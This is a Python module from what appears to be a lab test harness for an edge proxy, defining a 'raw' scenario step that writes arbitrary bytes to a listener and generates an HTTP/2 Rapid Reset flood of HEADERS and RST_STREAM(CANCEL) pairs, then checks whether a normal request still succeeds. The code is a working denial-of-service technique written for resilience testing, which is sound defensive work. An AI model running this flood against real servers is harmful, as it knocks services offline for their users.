"""The scenario step `raw`: bytes no well-behaved client sends, for the eyeball-facing attacks.

`send` writes text as-is (latin-1) to the plain or TLS eyeball listener and reads the answer until the edge
closes or the step's timeout; `h2_rapid_reset` opens HTTP/2 over TLS (ALPN h2) and writes, in one write,
the preface and `pairs` HEADERS + RST_STREAM(CANCEL) pairs for `path`, then one ordinary request for
`path` on the same connection, and reads until that request's response ended. docs/scenarios.md.
"""

from __future__ import annotations

import contextlib
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import trio

from tunnel_lab.lab.runner import client


@dataclass
class RawResult:
    """What came back: the raw answer (`send`), or the ordinary request's status (`h2_rapid_reset`)."""

    response: bytes = b""
    status: int | None = None
    closed: bool = False  # the edge closed the connection
    error: str | None = None


async def send_raw(stream: trio.abc.Stream, data: bytes, timeout: float) -> RawResult:
    """Write `data`; read until the peer closes (or `timeout`)."""
    result = RawResult()
    with trio.move_on_after(timeout):
        try:
            await stream.send_all(data)
            while chunk := await stream.receive_some(65536):
                result.response += chunk
            result.closed = True
        except (trio.BrokenResourceError, trio.ClosedResourceError) as exc:
            result.closed = True
            result.error = str(exc.__cause__ or exc) or type(exc).__name__
    return result


def rapid_reset_bytes(authority: str, path: str, pairs: int) -> tuple[h2.connection.H2Connection, bytes, int]:
    """(client state, bytes to write, id of the ordinary request sent after the pairs)."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    fields = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority.encode()),
              (b":path", path.encode())]
    for _ in range(pairs):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, fields, end_stream=True)
        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
    last = conn.get_next_available_stream_id()
    conn.send_headers(last, fields, end_stream=True)
    return conn, conn.data_to_send(), last


async def rapid_reset(stream: trio.abc.Stream, authority: str, path: str, pairs: int,
                      timeout: float) -> RawResult:
    """The attack, then the ordinary request's status (None if it got none)."""
    conn, data, last = rapid_reset_bytes(authority, path, pairs)
    result = RawResult()
    with trio.move_on_after(timeout) as scope:
        try:
            await stream.send_all(data)
            while True:
                chunk = await stream.receive_some(65536)
                if not chunk:
                    result.closed = True
                    return result
                for ev in conn.receive_data(chunk):
                    if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == last:
                        result.status = int(dict(ev.headers)[b":status"])
                    elif isinstance(ev, h2.events.DataReceived):
                        conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif (isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset)
                          and ev.stream_id == last):
                        return result
                    elif isinstance(ev, h2.events.ConnectionTerminated):
                        result.error = f"GOAWAY {ev.error_code!r}"
                await stream.send_all(conn.data_to_send())
        except (trio.BrokenResourceError, trio.ClosedResourceError, h2.exceptions.ProtocolError) as exc:
            result.closed = True
            result.error = str(exc.__cause__ or exc) or type(exc).__name__
    if scope.cancelled_caught:
        result.error = f"no answer within {timeout:g}s"
    return result


async def run_raw(address: str, *, tls: bool, host: str, ca_path: str | None, send: bytes | None,
                  rapid: dict[str, object] | None, timeout: float) -> RawResult:
    """Connect (TLS with SNI `host` when asked) and run one raw exchange."""
    stream = await client.connect(address, tls=tls or rapid is not None, server_hostname=host,
                                      ca_path=ca_path, alpn=("h2",) if rapid is not None else ("http/1.1",))
    try:
        if rapid is not None:
            return await rapid_reset(stream, host, str(rapid.get("path", "/")), int(str(rapid["pairs"])),
                                     timeout)
        return await send_raw(stream, send or b"", timeout)
    finally:
        with trio.CancelScope(shield=True), contextlib.suppress(trio.BrokenResourceError, OSError):
            await stream.aclose()
